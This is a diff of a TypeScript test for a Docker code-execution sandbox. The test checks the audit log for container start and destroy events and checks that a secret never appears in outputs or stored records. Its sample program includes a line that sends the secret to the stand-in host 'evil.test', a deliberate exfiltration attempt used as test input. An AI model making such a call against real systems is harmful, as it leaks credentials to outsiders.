@@ -55,6 +55,7 @@ describe.skipIf(HAS_NO_DOCKER)("one run in a container, from the audit log alone
       content: { output: true },
     })
     await using codeExecutor = docker({ pool: false, ...reaching(web.port) })
+    using _watch = place.governance.watchSandboxes(codeExecutor)
     const { code } = program(`show(fetch("http://${HOST}:${web.port}/hello"))
 fetch("http://evil.test/${SECRET}")
 print("key: ${SECRET.slice(0, 9)}" + "${SECRET.slice(9)}")`)
@@ -116,6 +117,13 @@ print("key: ${SECRET.slice(0, 9)}" + "${SECRET.slice(9)}")`)
       outputSha256: sha256Of(done["output"] as string),
       output: expect.stringContaining(`hello from ${HOST}`) as string,
     })
+    // Where it was, from the start to the end of that.
+    await codeExecutor.stop()
+    await place.governance.close()
+    const { containerId, imageDigest, policySha256 } = done
+    const [started, ...ended] = new Review(await place.records()).all("sandbox")
+    expect(started).toMatchObject({ event: "started", containerId, imageDigest, policySha256 })
+    expect(ended).toMatchObject([{ event: "destroyed", executor: "docker", containerId }])
     // And no secret in it, nor in what was told and kept.
     const said = JSON.stringify([items, await readFile(place.folder.path, "utf8")])
     expect(said).not.toContain(SECRET)
